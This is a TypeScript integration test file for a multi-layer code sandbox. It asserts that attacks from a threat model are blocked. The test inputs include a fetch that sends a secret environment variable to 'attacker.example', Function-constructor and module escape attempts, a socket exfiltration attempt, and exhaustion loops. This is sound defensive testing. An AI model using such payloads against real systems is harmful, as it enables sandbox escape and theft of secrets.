// Every attack of the threat model (docs/security.md), against the layer that owns it, each with
// its exact outcome. Isolate attacks run on one engine, followed by a fresh execution that must
// succeed; command and parser attacks run on real bubblewrap; hammering runs on real Redis.
import { randomUUID } from 'node:crypto';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import type { JsonValue } from '@coda/sandbox-core';
import { SandboxEngine } from '@coda/sandbox-isolate';
import {
  createRateLimitGuard,
  createRedisLimitStore,
  fromIoredis,
} from '@coda/sandbox-limits-redis';
import { createParserHost } from '@coda/sandbox-parser-host';
import { createSandbox, SandboxControl } from '@coda/sandbox-subprocess';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import {
  asError,
  asResult,
  eventsOf,
  expectServing,
  expectTimesOut,
  payloadOf,
  statusesOf,
} from './support/events.ts';
import { feedParsersPath } from './support/parsers.ts';
import { startTrapServer, type TrapServer } from './support/servers.ts';

const python = '/usr/bin/python3';
let trap: TrapServer;
beforeAll(async () => {
  trap = await startTrapServer();
});
afterAll(() => trap.close());

describe('isolate layer', () => {
  const requests: JsonValue[] = [];
  const engine = new SandboxEngine({
    limits: { timeoutMs: 1_000 },
    dataHandler: (params) => {
      requests.push(params);
      return { rows: [1, 2, 3] };
    },
  });
  beforeAll(() => engine.ready());
  afterAll(() => engine.dispose());

  it('network exfiltration: fetch(...) is a ReferenceError; no network API exists at all', async () => {
    const event = asError(
      await engine.run({
        code: "await fetch('https://attacker.example?d=' + process.env.SECRET)",
      }),
      'RUNTIME',
    );
    expect(event.message).toBe('ReferenceError: fetch is not defined');
    expect(
      await payloadOf(
        engine,
        `return ['fetch', 'XMLHttpRequest', 'WebSocket', 'navigator', 'process', 'require', 'module',
          'Buffer', 'global', 'setInterval', 'setImmediate', 'WebAssembly', '__dirname']
          .filter((name) => typeof globalThis[name] !== 'undefined')`,
      ),
    ).toEqual([]);
    expect(trap.connections).toBe(0);
    await expectServing(engine);
  });

  it.each([
    ['process.env', 'return process.env.SECRET'],
    ['process.exit()', 'process.exit(1)'],
    ['process.mainModule', 'return process.mainModule.require("fs")'],
  ])('host process access: %s is a ReferenceError', async (_name, code) => {
    const event = asError(await engine.run({ code }), 'RUNTIME');
    expect(event.message).toBe('ReferenceError: process is not defined');
    await expectServing(engine);
  });

  it('module escape: require is not defined and import() is not supported', async () => {
    const required = asError(await engine.run({ code: "return require('fs')" }), 'RUNTIME');
    expect(required.message).toBe('ReferenceError: require is not defined');
    const imported = asError(
      await engine.run({ code: "return await import('child_process')" }),
      'RUNTIME',
    );
    expect(imported.message).toBe('Error: Not supported');
    await expectServing(engine);
  });

  it('Function-constructor escape: every constructor chain ends at the isolate global', async () => {
    const payload = await payloadOf(
      engine,
      `const reach = async (f) => {
         try { return typeof (await f('return process')()); } catch (e) { return e.name; }
       };
       return [
         typeof new Function('return typeof process')(),
         new Function('return typeof process')(),
         await reach(dataProxy.request.constructor),
         await reach(dataProxy.request.constructor.constructor),
         await reach(reportStatus.constructor),
         await reach(console.log.constructor),
         await reach((async () => {}).constructor),
         new Function('return this')() === globalThis,
       ];`,
    );
    expect(payload).toEqual([
      'string',
      'undefined',
      'ReferenceError',
      'ReferenceError',
      'ReferenceError',
      'ReferenceError',
      'ReferenceError',
      true,
    ]);
    await expectServing(engine);
  });

  it('synchronous CPU exhaustion: while (true) {} → TIMEOUT at timeoutMs', async () => {
    await expectTimesOut(engine, 'while (true) {}', 1_000);
  });

  it('asynchronous CPU exhaustion: while (true) await Promise.resolve() → TIMEOUT at timeoutMs', async () => {
    await expectTimesOut(engine, 'while (true) { await Promise.resolve(); }', 1_000);
  });

  it('memory exhaustion: arrays pushed forever → OOM at memoryMb', async () => {
    const event = asError(
      await engine.run({
        code: 'const a = []; while (true) a.push(new Array(1_000_000));',
        limits: { memoryMb: 16, timeoutMs: 5_000 },
      }),
      'OOM',
    );
    expect(event.details).toEqual({ memoryMb: 16 });
    await expectServing(engine);
  });

  it('request amplification: dataProxy.request in a loop → LIMIT_EXCEEDED at call 21, the host answered 20', async () => {
    requests.length = 0;
    const event = asError(
      await engine.run({
        code: 'for (let i = 0; i < 5_000; i++) await dataProxy.request({ i }); return "all"',
      }),
      'LIMIT_EXCEEDED',
    );
    expect(event.details).toEqual({ field: 'maxDataRequests', limit: 20, size: 21 });
    expect(requests).toEqual(Array.from({ length: 20 }, (_, i) => ({ i })));
    await expectServing(engine);
  });

  it('result flooding: 100 MiB returned → VALIDATION naming maxResultBytes', async () => {
    const event = asError(
      await engine.run({
        code: "return 'x'.repeat(100 * 1024 * 1024)",
        limits: { memoryMb: 512, timeoutMs: 10_000 },
      }),
      'VALIDATION',
    );
    expect(event.details).toMatchObject({ field: 'maxResultBytes', limit: 5_242_880 });
    await expectServing(engine);
  });

  it('console spam: an endless console.log loop → 1 000 status events, then TIMEOUT', async () => {
    const events = await eventsOf(
      engine.submit({ code: 'for (let i = 0; i < 1e9; i++) console.log(i)' }),
    );
    expect(statusesOf(events)).toHaveLength(1_000);
    expect(asError(events.at(-1), 'TIMEOUT').stats).toMatchObject({ statusEvents: 1_000 });
    await expectServing(engine);
  });

  it('code inflation: 8 MiB of source → VALIDATION before V8 sees it', async () => {
    const started = performance.now();
    const event = asError(
      await engine.run({ code: `/*${'x'.repeat(8 * 1024 * 1024)}*/ return 1` }),
      'VALIDATION',
    );
    expect(event.details).toMatchObject({ field: 'maxCodeBytes', limit: 524_288 });
    expect(event.stats).toBeUndefined();
    expect(performance.now() - started).toBeLessThan(2_000);
    await expectServing(engine);
  });
});

describe('subprocess layer', () => {
  const sandbox = createSandbox({ allowNetwork: false, allowFileWrites: false, timeoutMs: 10_000 });

  it('network exfiltration: a connection to the host loopback fails with EPERM and never arrives', async () => {
    const before = trap.connections;
    const result = await sandbox.run(python, [
      '-c',
      `import socket\ntry:\n socket.create_connection(("127.0.0.1", ${trap.port}), 2); print("connected")\nexcept OSError as e: print("blocked", e.errno)`,
    ]);
    expect(result.stdout).toBe('blocked 1\n');
    expect(result.controls).toEqual(
      expect.arrayContaining([SandboxControl.networkNamespace, SandboxControl.seccompNoInet]),
    );
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(trap.connections).toBe(before);
  });

  it('host process access: the host environment (its secrets) is not visible', async () => {
    process.env.CODA_INTEGRATION_SECRET = 'hunter2';
    try {
      const result = await sandbox.run('/usr/bin/env');
      expect(result.success).toBe(true);
      expect(result.stdout).not.toContain('CODA_INTEGRATION_SECRET');
      expect(result.stdout).not.toContain('hunter2');
      expect(result.controls).toContain(SandboxControl.cleanEnvironment);
    } finally {
      delete process.env.CODA_INTEGRATION_SECRET;
    }
  });

  it('synchronous CPU exhaustion: a shell busy loop is killed at the wall clock', async () => {
    const started = performance.now();
    const result = await sandbox.run('/bin/sh', ['-c', 'while :; do :; done'], { timeoutMs: 500 });
    expect(result).toMatchObject({
      success: false,
      timedOut: true,
      error: 'Command timed out after 500 ms',
    });
    expect(performance.now() - started).toBeLessThan(8_000);
    expect(result.controls).toContain(SandboxControl.wallClockTimeout);
  });

  it('memory exhaustion: a growing allocation is stopped at maxMemoryMb by the memory cgroup', async () => {
    const result = await sandbox.run(
      python,
      ['-c', 'a = []\nwhile True: a.append(bytearray(8 * 1024 * 1024))'],
      { maxMemoryMb: 64 },
    );
    expect(result).toMatchObject({
      success: false,
      memoryExceeded: true,
      error: 'Command exceeded its memory limit (64 MiB)',
    });
    expect(result.controls).toEqual(
      expect.arrayContaining([expect.stringMatching(/^memory:cgroup-v[12]$/)]),
    );
  });

  it('file writes: nothing lands outside the sandbox when writes are not allowed', async () => {
    const dir = mkdtempSync(join('/var/tmp', 'coda-integration-'));
    try {
      const result = await sandbox.run('/bin/sh', [
        '-c',
        `echo x > ${dir}/dropped 2>/dev/null && echo wrote || echo refused`,
      ]);
      expect(result.stdout).toBe('refused\n');
      expect(existsSync(join(dir, 'dropped'))).toBe(false);
      expect(result.controls).toContain(SandboxControl.noFileWrites);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('parser-host layer', () => {
  const host = createParserHost({ module: feedParsersPath, warmSpare: false, maxConcurrent: 2 });
  afterAll(() => host.close());

  it('synchronous CPU exhaustion: a spinning parser ends with "sandbox timeout"', async () => {
    const result = await host.runParser('parseFeed', 'SPIN', { timeout: 1_000 });
    expect(result).toMatchObject({
      ok: false,
      timedOut: true,
      code: 'TIMEOUT',
      error: 'sandbox timeout',
      exitCode: null,
    });
  });

  it('memory exhaustion: a hoarding parser ends with OOM at memoryBytes', async () => {
    const result = await host.runParser('parseFeed', 'BOMB', { memoryBytes: 128 * 1024 * 1024 });
    expect(result).toMatchObject({ ok: false, code: 'OOM', timedOut: false });
    expect(result.error).toMatch(/^memory limit exceeded/);
  });

  it('the host goes on: a well-formed feed parses right after', async () => {
    const result = await host.runParser('parseFeed', 'cpu,1\nmem,2\ncpu,3\n');
    expect(result).toMatchObject({ ok: true, data: { cpu: 4, mem: 2 }, exitCode: 0 });
  });
});

describe('limits-redis layer', () => {
  let redis: Redis;
  beforeAll(() => {
    redis = new Redis(inject('redisUrl'), { maxRetriesPerRequest: 1 });
  });
  afterAll(() => redis.quit());

  it('hammering across conversations: one user gets exactly the rate limit, the rest RATE_LIMITED', async () => {
    const store = createRedisLimitStore({
      client: fromIoredis(redis),
      keyPrefix: `it:hammer:${randomUUID()}:`,
    });
    const engine = new SandboxEngine({
      workers: 1,
      maxConcurrent: 64,
      guards: [createRateLimitGuard({ store, limit: 5, windowMs: 60_000 })],
    });
    try {
      const events = await Promise.all(
        Array.from({ length: 30 }, (_, i) =>
          engine.run({
            code: 'return "ran"',
            context: { userId: 'mallory', conversationId: `c${i % 10}`, turnId: `t${i}` },
          }),
        ),
      );
      const admitted = events.filter((event) => event.type === 'result');
      expect(admitted).toHaveLength(5);
      const refused = events.filter((event) => event.type === 'error');
      expect(refused).toHaveLength(25);
      for (const event of refused) {
        expect(asError(event, 'RATE_LIMITED').details?.retryAfterMs).toBeGreaterThan(0);
      }
      // Another user is not affected.
      asResult(await engine.run({ code: 'return 1', context: { userId: 'alice' } }));
    } finally {
      await engine.dispose();
    }
  });
});
